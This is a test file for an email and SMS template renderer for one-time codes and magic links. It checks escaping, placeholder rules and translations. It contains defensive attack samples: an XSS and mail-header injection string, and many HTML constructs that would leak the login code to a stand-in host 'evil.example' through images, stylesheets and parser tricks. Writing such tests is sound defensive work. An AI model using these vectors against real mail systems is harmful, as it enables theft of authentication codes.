import { describe, expect, test } from "vitest";
import { dirOf, LOCALES } from "../../pages/index.ts";
import type { TemplateText } from "./defaults.ts";
import { shippedTemplates } from "./defaults.ts";
import type { TemplateKey } from "./templates.catalogue.ts";
import { carriesSecret } from "./templates.catalogue.ts";
import { compileTemplate, type MessageUser, renderTemplate, ttlText, valuesOf } from "./templates.render.ts";

const ada: MessageUser = {
  id: "1",
  username: "ada",
  email: "ada@example.com",
  emailVerified: true,
  attributes: { firstName: "Ada", lastName: "Lovelace", team: ["north", "south"] },
};
const faultsOf = (template: Partial<TemplateText>, key: TemplateKey = "otp-email") => {
  const faults: string[] = [];
  compileTemplate(key, { subject: "s", body: "b", textBody: null, html: false, ...template }, (field, message) =>
    faults.push(`${field}: ${message}`),
  );
  return faults;
};
const render = (template: Partial<TemplateText>, facts: Partial<Parameters<typeof valuesOf>[0]> = {}) => {
  const fail = (field: string, message: string) => {
    throw new Error(`${field}: ${message}`);
  };
  const compiled = compileTemplate("otp-email", { subject: "s", body: "b", textBody: null, html: false, ...template }, fail);
  return renderTemplate(compiled, valuesOf({ realm: "Acme", user: ada, ...facts }));
};
const html = (body: string, facts: Parameters<typeof render>[1] = {}) => render({ html: true, body }, facts).html;

describe("reading a template", () => {
  test("knows the message's own placeholders and every attribute of a user, and names each that it does not know, once", () => {
    expect(faultsOf({ body: "{{realm}} {{ code }} {{ttl}} {{user}} {{user.firstName}} {{user.a_b.c:d-e}}" })).toEqual([]);
    const faults = faultsOf({ subject: "{{cod}}", body: "{{link}} {{nope}} {{nope}} {{USER}} {{user.}} {{user.a b}}" });
    expect(faults.map((fault) => /“(.*?)”/.exec(fault)![1])).toEqual([
      "{{cod}}",
      "{{link}}",
      "{{nope}}",
      "{{USER}}",
      "{{user.}}",
      "{{user.a b}}",
    ]);
    expect(faults[0]).toBe(
      "subject: “{{cod}}” is not known here: this message has {{realm}}, {{code}}, {{ttl}}, {{user}}, {{brand}}, {{brandColor}}, {{brandText}}, {{brandDarkColor}}, {{brandDarkText}} and {{user.<attribute>}}",
    );
  });

  test.each([
    ["Hello {{code", "that no }} closes"],
    ["Hello {{", "that no }} closes"],
    ["{{ }}", "without a name"],
    ["{{}}", "without a name"],
    ["{{a{{code}}b}}", "cannot be nested"],
    ["{{{code}}}", "cannot be nested"],
  ])("says what is wrong with %s", (body, words) => {
    expect(faultsOf({ body })).toEqual([expect.stringContaining(words)]);
  });

  test("leaves single braces, and the closing ones of a stylesheet, alone", () => {
    const body = "<style>@media x{.a{color:red}}</style>{ {code} }} {{code}}";
    expect(html(body, { code: "1" })).toBe("<style>@media x{.a{color:red}}</style>{ {code} }} 1");
  });

  test("is quick and sparing with words about a body full of faults", () => {
    expect(faultsOf({ body: "{{x}}".repeat(10_000) })).toHaveLength(1);
    expect(faultsOf({ body: Array.from({ length: 5_000 }, (_, n) => `{{x${n}}}`).join("") })).toHaveLength(20);
    expect(faultsOf({ body: "{{".repeat(30_000) })).toHaveLength(1);
    expect(faultsOf({ html: true, body: "<!--".repeat(16_000) })).toEqual([]);
    expect(faultsOf({ html: true, body: `${" ".repeat(30_000)}<p>${" \n".repeat(15_000)}` })).toEqual([]);
  });
});

describe("putting values in", () => {
  test("happens once: a value that looks like a placeholder stays as it is", () => {
    const user = { ...ada, username: "{{code}}", attributes: { x: "{{user.email}} {{" } };
    expect(render({ subject: "{{user}} {{user.x}}", body: "{{user}}" }, { user, code: "123456" })).toEqual({
      subject: "{{code}} {{user.email}} {{",
      html: null,
      text: "{{code}}",
    });
  });

  test("takes names from the user, and nothing from the object they are kept in", () => {
    const body = "{{user}}|{{user.username}}|{{user.email}}|{{user.team}}|{{user.nope}}|{{user.constructor}}|{{user.__proto__}}|{{code}}";
    expect(render({ body }).text).toBe("Ada Lovelace|ada|ada@example.com|north, south||||");
    expect(render({ body: "{{user}}" }, { user: { ...ada, attributes: { firstName: " " } } }).text).toBe("ada");
    expect(render({ body: "{{user.email}}" }, { user: { ...ada, attributes: { email: "eve@example.com" } } }).text).toBe("ada@example.com");
  });

  const attack = "\"><script>alert(1)</script><img src=x onerror='x'>\r\nBcc: eve@example.com\u2028x\u202Ey\u0000";

  test("makes every value one line of text: no header, no markup, no direction of its own", () => {
    const user = { ...ada, username: attack, attributes: {} };
    const rendered = render({ subject: "Hi {{user}}", body: '<p title="{{user}}">{{user}}</p>', html: true }, { user });
    expect(rendered.subject).toBe("Hi \"><script>alert(1)</script><img src=x onerror='x'> Bcc: eve@example.com x y");
    const escaped = "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=&#39;x&#39;&gt; Bcc: eve@example.com x y ";
    expect(rendered.html).toBe(`<p title="${escaped}">${escaped}</p>`);
    expect(rendered.text).toBe(attack.replaceAll(/\r\n|\u2028|\u202E|\0/g, " "));
    expect(rendered.text).not.toMatch(/[\r\n]/);
  });

  test("stops at values without end, but never loses the code", () => {
    const user = { ...ada, attributes: { notes: Array.from({ length: 100 }, () => "x".repeat(4096)) } };
    const rendered = render({ body: `${"{{user.notes}}".repeat(4_000)}{{user}}<b>{{code}}</b>`, html: true }, { user, code: "123456" });
    for (const part of [rendered.html!, rendered.text]) {
      expect(part.length).toBeLessThan(300_000);
      expect(part).toContain("x".repeat(4096));
      expect(part).toContain("123456");
    }
  });

  test("cuts a subject that its values make too long, between characters", () => {
    const { subject } = render({ subject: "{{user}}" }, { user: { ...ada, username: "😀".repeat(200), attributes: {} } });
    expect(subject!.length).toBeLessThanOrEqual(255);
    expect(subject!.isWellFormed()).toBe(true);
    expect(subject!.endsWith("…")).toBe(true);
  });

  test.each([
    [600, "en", "10 minutes"],
    [60, "en", "1 minute"],
    [45, "en", "45 seconds"],
    [3600, "en", "60 minutes"],
    [7_200, "nl", "2 uur"],
    [86_400, "en", "24 hours"],
    [3 * 86_400, "nl", "3 dagen"],
    [119, "en", "1 minute"],
  ])("says %i seconds in %s as %s", (seconds, locale, text) => {
    expect(ttlText(seconds, locale)).toBe(text);
  });
});

describe("in HTML, a placeholder may stand", () => {
  test("in the text, in the title and in a quoted attribute that is text", () => {
    const body = `<!doctype html><title>{{realm}}</title><!-- - --><p title='{{realm}}' lang = "nl" hidden>{{code}} < {{code}}</p>`;
    expect(html(body, { realm: "A&'B", code: "-->" })).toBe(
      `<!doctype html><title>A&amp;&#39;B</title><!-- - --><p title='A&amp;&#39;B' lang = "nl" hidden>--&gt; < --&gt;</p>`,
    );
  });

  test.each([
    ["<a href={{user}}>x</a>", "inside a tag"],
    ["<p {{user}}>x</p>", "inside a tag"],
    ["<{{user}}>x", "inside a tag"],
    ["<p title=a{{user}}>x", "inside a tag"],
    ["</{{user}}>", "inside a tag"],
    ["<style>.{{user}}{}</style>", "inside <style>"],
    ["<SCRIPT>x</scripty>{{user}}</SCRIPT>", "inside <script>"],
    ['<p onclick="{{user}}">', "attribute onclick"],
    ['<p style="color:{{user.colour}}">', "attribute style"],
    ['<a href="{{user.site}}">', "only {{link}} may"],
    ['<a href=" {{user.site}}">', "only {{link}} may"],
    ['<a href="java{{user}}">', "only {{link}} may"],
    ['<a href="https://{{user}}">', "only {{link}} may"],
    ['<a href="https://example.com{{user}}">', "only {{link}} may"],
    ['<img src="{{user.picture}}">', "attribute src of <img>"],
    ["<!-- {{code}} -->", "in a comment"],
    ["<noscript>{{code}}</noscript>", "inside <noscript>"],
    ['<meta http-equiv="refresh" content="0;url={{user}}">', "attribute content"],
  ])("but not in %s", (body, words) => {
    expect(faultsOf({ html: true, body })).toEqual([expect.stringContaining(words)]);
  });

  test("in an address after its server, where it stays a piece of that address", () => {
    const user = { ...ada, username: 'a&b=c/../?#"><x', attributes: {} };
    expect(html('<a href="https://example.com/u?name={{user}}&x=1">x</a>', { user })).toBe(
      '<a href="https://example.com/u?name=a%26b%3Dc%2F..%2F%3F%23%22%3E%3Cx&x=1">x</a>',
    );
    expect(html('<a href="mailto:{{user.email}}">x</a>')).toBe('<a href="mailto:ada%40example.com">x</a>');
  });
});

describe("images of a mail reveal nothing to their server", () => {
  const LEAK = "https://evil.example/?{{code}}";
  test.each([
    `<img src="${LEAK}">`,
    '<img src="{{link}}">',
    `<img srcset="${LEAK} 2x">`,
    `<img alt="x" lowsrc='${LEAK}'>`,
    `<table background="${LEAK}">`,
    `<td style="background:url(${LEAK})">`,
    `<style>p{background:url(${LEAK})}</style>`,
    `<link rel="stylesheet" href="${LEAK}">`,
    `<base href="${LEAK}">`,
    `<video poster="${LEAK}">`,
    `<object data="${LEAK}">`,
    `<param name="movie" value="${LEAK}">`,
    `<v:fill src="${LEAK}">`,
    `<svg><image xlink:href="${LEAK}"/></svg>`,
    `<svg><image href="${LEAK}"/></svg>`,
    `<svg><rect fill="url(${LEAK})"/></svg>`,
    `<form action="${LEAK}">`,
    `<!--[if mso]><img src="${LEAK}"><![endif]-->`,
    // Read in another way, each of these is an image.
    `<!--><img src="https://evil.example/-->{{code}}">`,
    `<!---><img src="https://evil.example/-->{{code}}">`,
    `<!-- --!><img src="https://evil.example/-->{{code}}">`,
    `<title><!--</title><img src="https://evil.example/-->{{code}}">`,
    `<title><p title="</title><img src='https://evil.example/">{{code}}'>`,
    `<svg><title><img src="https://evil.example/</title>{{code}}">`,
    `<svg><style><img src="https://evil.example/</style>{{code}}">`,
    `<noscript><p title="</noscript><img src='https://evil.example/">{{code}}'>`,
    `<svg><![CDATA[><!--]]><img src="https://evil.example/-->{{code}}">`,
    `<script><!--<script></script><p title="</script><img src='https://evil.example/">{{code}}'>`,
  ])("%s", (body) => {
    const key = body.includes("{{link}}") ? "magic-link-email" : "otp-email";
    expect(faultsOf({ html: true, body }, key)).toEqual([expect.stringMatching(/^body: {{(code|link)}} stands/)]);
    // Saved by a release that allowed it, it leaves without the secret.
    const compiled = compileTemplate(key, { subject: "s", html: true, textBody: "t", body }, () => {});
    const rendered = renderTemplate(compiled, () => "918273");
    expect(rendered.html).not.toContain("918273");
  });
});

describe("the plain part of an HTML body", () => {
  test("is made from it where there is none: text, lines, lists and the addresses of links", () => {
    const body = `<html><head><title>T</title><style>p{}</style></head><body>
      <h1>Hello&nbsp;{{user}} &amp; co</h1>
      <p>Your code:
         <b>{{code}}</b><br>Thanks</p><ul><li>one<li>two</ul>
      <a href="https://example.com/?a=1&amp;b=2">Help</a> &#123;&#123;code}} &lt;b&gt; &bogus;</body></html>`;
    expect(render({ html: true, body }, { code: "<1>" }).text).toBe(
      "Hello Ada Lovelace & co\n\nYour code: <1>\nThanks\n\n- one\n- two\n\nHelp: https://example.com/?a=1&b=2 {{code}} <b> &bogus;",
    );
  });

  test("reports a link once when the text is the link", () => {
    const compiled = compileTemplate(
      "magic-link-email",
      { subject: "s", html: true, textBody: null, body: '<a href="{{link}}">Sign in</a> <a href="{{link}}">{{link}}</a>' },
      (field, message) => expect.fail(`${field}: ${message}`),
    );
    expect(renderTemplate(compiled, valuesOf({ realm: "r", user: ada, link: "https://x.example/a?b=1&c=2" }))).toMatchObject({
      html: '<a href="https://x.example/a?b=1&amp;c=2">Sign in</a> <a href="https://x.example/a?b=1&amp;c=2">https://x.example/a?b=1&amp;c=2</a>',
      text: "Sign in: https://x.example/a?b=1&c=2 https://x.example/a?b=1&c=2",
    });
  });

  test("is what an author wrote, where one did", () => {
    expect(render({ html: true, body: "<p>{{code}}</p>", textBody: "Code {{code}}" }, { code: "<1>" }).text).toBe("Code <1>");
  });
});

test.each(shippedTemplates.map((template) => [`${template.templateKey} (${template.locale ?? "en"})`, template] as const))(
  "what ships is sound and uses what its message has: %s",
  (_, template) => {
    const faults: string[] = [];
    const compiled = compileTemplate(template.templateKey, template, (field, message) => faults.push(`${field}: ${message}`));
    expect(faults).toEqual([]);
    const {
      subject,
      html: body,
      text,
    } = renderTemplate(
      compiled,
      valuesOf({
        realm: "Acme",
        organization: "Acme",
        user: ada,
        agent: "Robot",
        code: "123456",
        link: "https://acme.example/x",
        ttl: "10 minutes",
      }),
    );
    for (const part of [subject, body, text]) expect(part ?? "").not.toContain("{{");
    if (template.templateKey.startsWith("otp")) expect(text).toContain("123456");
    if (template.html) {
      expect(body).toContain(`<html lang="${template.locale ?? "en"}" dir="${dirOf(template.locale ?? "en")}">`);
      if (template.templateKey === "otp-email") for (const part of [body, text]) expect(part).toContain("123456");
      else if (carriesSecret(template.templateKey)) {
        expect(body).toContain('href="https://acme.example/x"');
        expect(text).toContain("https://acme.example/x");
      }
      expect(text).toContain("Ada Lovelace");
      expect(subject).toContain("Acme");
    }
  },
);

describe("in every language that ships", () => {
  const slots = (text: string | null) => [...new Set(text?.match(/\{\{.*?\}\}/g) ?? [])].sort();
  const english = (key: string) => shippedTemplates.find(({ templateKey, locale }) => templateKey === key && locale === null)!;

  test("a message names what the English one names, in each of its parts", () => {
    for (const template of shippedTemplates)
      for (const part of ["subject", "body", "textBody"] as const)
        expect(slots(template[part]), `${template.templateKey} ${template.locale} ${part}`).toEqual(
          slots(english(template.templateKey)[part]),
        );
  });

  test("each message is there once, in its own words", () => {
    const languages = (key: string) => shippedTemplates.filter(({ templateKey }) => templateKey === key);
    for (const key of new Set(shippedTemplates.map(({ templateKey }) => templateKey))) {
      expect(languages(key).map(({ locale }) => locale)).toEqual(LOCALES.map((locale) => (locale === "en" ? null : locale)));
      expect(new Set(languages(key).map(({ body }) => body)).size, key).toBe(LOCALES.length);
    }
  });

  test("a text message keeps to the letters of GSM 03.38: one other letter halves what fits into an SMS", () => {
    const letters = /^[\w @£$¥èéùìòÇØøÅåÆæßÉ!"#¤%&'()*+,\-./:;<=>?¡ÄÖÑÜ§¿äöñüà{}]*$/;
    for (const { body, locale } of shippedTemplates.filter(({ templateKey }) => templateKey === "otp-sms")) {
      // Japanese and Arabic have no letters there: 70 fit.
      const isOther = locale === "ja" || locale === "ar";
      if (!isOther) expect(body, String(locale)).toMatch(letters);
      expect(body.length, String(locale)).toBeLessThanOrEqual(isOther ? 66 : 120);
    }
  });

  test("French keeps its punctuation on the line of the word before", () => {
    for (const { subject, textBody, templateKey } of shippedTemplates.filter(({ locale }) => locale === "fr"))
      expect(`${subject} ${textBody}`.replaceAll(/\{\{.*?\}\}/g, "x"), templateKey).not.toMatch(/[^\u202f][?!;]|[^\u00a0]:/u);
  });
});
